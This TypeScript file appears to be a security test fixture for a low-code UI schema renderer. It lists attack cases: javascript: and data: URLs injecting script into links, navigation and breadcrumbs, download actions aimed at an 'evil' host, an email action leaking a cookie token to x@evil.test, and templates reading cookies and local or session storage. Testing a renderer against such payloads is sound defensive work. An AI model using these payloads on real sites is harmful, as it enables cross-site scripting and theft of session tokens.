import { type Attack, EVIL, JS, onEvent, pressed, tpl } from './attack';

/** Navigation away, and access to browser storage. */
export const navigation: Record<string, Attack> = {
  link: { body: { type: 'link', href: `javascript:${JS}`, body: 'x', className: 'press' }, click: ['a', '.press'] },
  'url action': pressed({ actionType: 'url', url: `javascript:${JS}` }),
  'url action by event': pressed({
    onEvent: onEvent('click', { actionType: 'url', args: { url: `javascript:${JS}` } }),
  }),
  'url action with a data address': pressed({ actionType: 'url', url: `data:text/html,<script>${JS}</script>` }),
  nav: {
    shows: '.antd-Nav',
    body: { type: 'nav', links: [{ label: 'x', to: `javascript:${JS}` }] },
    click: ['.antd-Nav a', '.antd-Nav-Menu-item'],
  },
  breadcrumb: {
    body: { type: 'breadcrumb', items: [{ label: 'x', href: `javascript:${JS}` }, { label: 'y' }] },
    click: ['a'],
  },
  saveAs: pressed({ actionType: 'saveAs', api: `${EVIL}/save` }),
  download: pressed({ actionType: 'download', api: `${EVIL}/download` }),
  email: pressed({ actionType: 'email', to: 'x@evil.test', subject: '${cookie:atelier_token}' }),
  'cookie:': { body: [tpl('${cookie:atelier_token}'), tpl("${cookie:&['atelier_token']}")] },
  'window:': {
    body: [
      tpl('${window:document.cookie}'),
      tpl("${window:&['document']['cookie']}"),
      tpl('${window:localStorage.secret}'),
    ],
  },
  'ls: and ss:': { body: [tpl('${ls:secret}'), tpl('${ss:secret}')] },
  'old variable syntax': {
    body: [
      tpl('$cookie:atelier_token'),
      { type: 'plain', text: '${ls:secret | raw}' },
      { type: 'static', name: 'a', value: '${cookie:atelier_token}' },
    ],
  },
  'loop action': {
    body: {
      type: 'page',
      body: 'x',
      onEvent: onEvent('init', {
        actionType: 'loop',
        args: { loopName: 'l' },
        children: [{ actionType: 'custom', script: JS }],
      }),
    },
  },
};
